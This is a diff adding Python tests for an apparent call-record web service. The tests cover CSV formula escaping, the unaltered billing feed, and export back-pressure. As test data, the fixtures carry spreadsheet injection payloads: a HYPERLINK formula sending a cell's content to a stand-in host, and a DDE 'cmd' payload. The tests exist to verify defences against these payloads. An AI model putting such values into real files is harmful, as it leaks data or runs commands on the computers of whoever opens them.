@@ -219,3 +219,164 @@ async def test_static_files_and_security_headers(make_site):
         assert r.code == 404, bad
     r, _ = await site.get("/report")
     assert "script-src 'self'" in r.headers.getRawHeaders("content-security-policy")[0]
+
+
+# -- CSV: formulas, back-pressure ---------------------------------------------------
+
+
+@pytest_twisted.ensureDeferred
+async def test_report_csv_cells_never_run_as_formulas(make_site):
+    """Values from gateways that a spreadsheet would run get a leading '
+    (OWASP); the rest, and the UTC columns cdrd makes, are as stored."""
+    import attrs
+
+    from cdrd.interfaces import WriteBatch
+
+    site = await make_site()
+    evil = attrs.evolve(
+        F.RECORDS[0],
+        id=f"{F.GW}/b1/500",
+        ref=500,
+        cli='=HYPERLINK("http://x.example/?"&A1,"click")',
+        pstn_cli="+442079460201",
+        dialed="@SUM(1+1)",
+        pstn_dial="\t=1+1",
+        cause="-2+3",
+    )
+    await site.store.write(WriteBatch(records=(evil,)))
+    _, body = await site.get(f"/report.csv?gateway={F.GW}&filter=out")
+    rows = list(csv.reader(io.StringIO(text(body))))
+    row = next(r for r in rows if r[1] == "500")
+    cols = rows[0]
+    assert row[cols.index("Caller ID")] == "'" + evil.cli
+    assert row[cols.index("PSTN Caller ID")] == "'+442079460201"
+    assert row[cols.index("Dialed")] == "'@SUM(1+1)"
+    assert row[cols.index("PSTN Dial")] == "'\t=1+1"
+    assert row[cols.index("Cause")] == "'-2+3"
+    plain = next(r for r in rows if r[1] == "75")
+    assert plain[cols.index("Dialed")] == "2252, 3"  # untouched
+    assert row[cols.index("Call ID")] == evil.id
+    assert row[cols.index("Begin (UTC)")] == "2026-11-22T10:00:00.000Z"
+
+
+@pytest_twisted.ensureDeferred
+async def test_cdrs_csv_is_the_billing_lines_byte_for_byte(make_site):
+    """The billing feed is never altered (its own format starts fields with
+    '-', as in -cancelled): formula-looking values stay as they are."""
+    import attrs
+
+    from cdrd.interfaces import WriteBatch
+    from cdrd.values import cdr_id
+
+    site = await make_site()
+    evil = attrs.evolve(
+        F.E1_CDR, id=cdr_id(F.E1_CDR.call, 9), cui="=cmd|' /C calc'!A0", cli="+4420"
+    )
+    await site.store.write(WriteBatch(cdrs=(evil,)))
+    _, body = await site.get("/cdrs.csv?cui=" + "%3Dcmd%7C%27%20%2FC%20calc%27%21A0")
+    assert text(body) == evil.line + "\r\n"
+    assert ",=cmd|' /C calc'!A0,2252,+4420" in evil.line
+
+
+class SlowClient:
+    """An HTTP connection whose client reads only when told: its transport
+    pushes back once more than `window` bytes are unread."""
+
+    def __init__(self, site, path, window=1024):
+        from twisted.internet.testing import StringTransport
+        from twisted.web.server import Site as WebSite
+
+        class Transport(StringTransport):
+            def write(self, data):
+                super().write(data)
+                if len(self.value()) > window and self.producer is not None:
+                    self.producer.pauseProducing()
+
+            def writeSequence(self, data):
+                self.write(b"".join(data))
+
+        self.channel = WebSite(site.web.resource()).buildProtocol(None)
+        self.transport = Transport()
+        self.channel.makeConnection(self.transport)
+        self.received = b""
+        self.channel.dataReceived(
+            b"GET " + path.encode() + b" HTTP/1.1\r\nHost: x\r\n\r\n"
+        )
+
+    def read(self):
+        self.received += self.transport.value()
+        self.transport.clear()
+        if self.transport.producer is not None:
+            self.transport.producer.resumeProducing()
+
+    def leave(self):
+        from twisted.internet.error import ConnectionDone
+        from twisted.python.failure import Failure
+
+        self.channel.connectionLost(Failure(ConnectionDone()))
+
+
+async def many_records(site, n):
+    import attrs
+
+    from cdrd.interfaces import WriteBatch
+
+    base = F.RECORDS[0]
+    await site.store.write(WriteBatch(records=[
+        attrs.evolve(base, id=f"{F.GW}/b2/{i}", boot="b2", ref=i, begin=base.begin + i)
+        for i in range(n)
+    ]))
+
+
+@pytest_twisted.ensureDeferred
+async def test_exports_follow_the_clients_pace_and_stop_when_it_goes(
+    make_site, monkeypatch
+):
+    from cdrd.web import app
+
+    monkeypatch.setattr(app, "EXPORT_CHUNK", 50)
+    site = await make_site()
+    await many_records(site, 2000)
+    queries = []
+    calls = site.store.calls
+    monkeypatch.setattr(site.store, "calls", lambda q: queries.append(q) or calls(q))
+
+    client = SlowClient(site, "/report.csv?from=2026-11-22&to=2026-11-22")
+    assert len(queries) == 1  # a chunk written, then it waits for the client
+    for _ in range(3):
+        client.read()
+    assert len(queries) == 4
+    client.leave()  # the client goes: no more queries, nothing more written
+    client.read()
+    assert len(queries) == 4
+
+    client = SlowClient(site, "/report.csv?from=2026-11-22&to=2026-11-22")
+    for _ in range(100):
+        client.read()
+    # every record of the day (the fixture's 8 and 2000), then the end
+    assert b"\r\n2008," in client.received and b"\r\n2009," not in client.received
+    assert client.received.endswith(b"\r\n0\r\n\r\n")
+
+
+@pytest_twisted.ensureDeferred
+async def test_billing_export_follows_the_clients_pace(make_site, monkeypatch):
+    import attrs
+
+    from cdrd.interfaces import WriteBatch
+    from cdrd.values import cdr_id
+    from cdrd.web import app
+
+    monkeypatch.setattr(app, "EXPORT_CHUNK", 50)
+    site = await make_site()
+    await site.store.write(WriteBatch(cdrs=[
+        attrs.evolve(F.E1_CDR, id=cdr_id(F.E1_CDR.call, 100 + i), cui=f"C{i}")
+        for i in range(1000)
+    ]))
+    queries = []
+    cdrs = site.store.cdrs
+    monkeypatch.setattr(site.store, "cdrs", lambda q: queries.append(q) or cdrs(q))
+    client = SlowClient(site, "/cdrs.csv")
+    assert len(queries) == 1
+    client.leave()
+    client.read()
+    assert len(queries) == 1
